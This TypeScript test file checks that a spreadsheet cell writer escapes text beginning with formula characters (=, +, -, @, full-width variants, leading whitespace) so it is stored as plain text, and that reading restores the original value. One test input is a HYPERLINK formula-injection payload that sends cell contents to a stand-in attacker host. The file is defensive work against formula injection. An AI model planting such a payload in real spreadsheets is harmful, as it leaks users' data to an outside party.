import fc from 'fast-check';
import { expect, test } from 'vitest';
import { readPlainCell, writePlainCell } from './plain-cell.ts';

test.each([
  '=1+1',
  '=HYPERLINK("https://evil.example/?"&A1,"x")',
  '+1',
  '-1',
  '@SUM(A1)',
  ' =1',
  '\n=1',
  '\t=1',
  '\u00a0=1',
  '＝1',
  '＋1',
  '－1',
  '＠x',
  '- buy nails',
  '\tx',
  '\rx',
  "'=1",
  "''\t=1",
])('CH-408 writes %j as text, and reads it back unchanged', (text) => {
  expect(writePlainCell(text)).toBe(`'${text}`);
  expect(readPlainCell(writePlainCell(text))).toBe(text);
});

test.each(['', 'Brief', '1-2', "'", "'tis", 'a=b', '50%', '2027-01-04', '– dash'])(
  'CH-408 %j stays as it is',
  (text) => {
    expect(writePlainCell(text)).toBe(text);
    expect(readPlainCell(text)).toBe(text);
  },
);

test('CH-408 writes no text as a formula', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'binary', maxLength: 5 }), (text) => {
      expect(writePlainCell(text).trimStart()).not.toMatch(/^[=+\-@＝＋－＠]/);
    }),
  );
});
